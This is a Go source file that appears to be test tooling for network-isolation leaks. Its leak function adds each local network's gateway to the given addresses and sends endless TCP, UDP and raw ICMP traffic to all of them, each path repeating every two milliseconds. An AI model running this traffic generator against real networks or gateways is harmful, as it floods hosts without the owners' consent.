package main

import (
	"net"
	"net/netip"
	"syscall"
	"time"
)

// leak sends to the addresses, and to the first address of each of its networks,
// which is the host, in every way that there is, until it is stopped.
func leak(addrs []string) {
	own, _ := net.InterfaceAddrs()
	for _, a := range own {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() && !p.Addr().IsLoopback() {
			addrs = append(addrs, p.Masked().Addr().Next().String())
		}
	}
	for _, addr := range addrs {
		connected, _ := net.Dial("udp", addr+":9999")
		free, _ := net.ListenUDP("udp4", nil)
		to := net.UDPAddrFromAddrPort(netip.AddrPortFrom(netip.MustParseAddr(addr), 9999))
		for _, way := range []func(){
			func() {
				if c, err := net.DialTimeout("tcp", addr+":80", time.Second); err == nil {
					c.Write([]byte("GET / HTTP/1.0\r\n\r\n"))
					c.Close()
				}
			},
			func() {
				if connected != nil {
					connected.Write([]byte("x"))
				}
			},
			func() { free.WriteTo([]byte("x"), to) },
			func() { ping(addr) },
		} {
			go func() {
				for {
					way()
					time.Sleep(2 * time.Millisecond)
				}
			}()
		}
	}
}

func ping(addr string) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP)
	if err != nil {
		return
	}
	defer syscall.Close(fd)
	echo := make([]byte, 16)
	echo[0] = 8
	syscall.Sendto(fd, echo, 0, &syscall.SockaddrInet4{Addr: netip.MustParseAddr(addr).As4()})
}
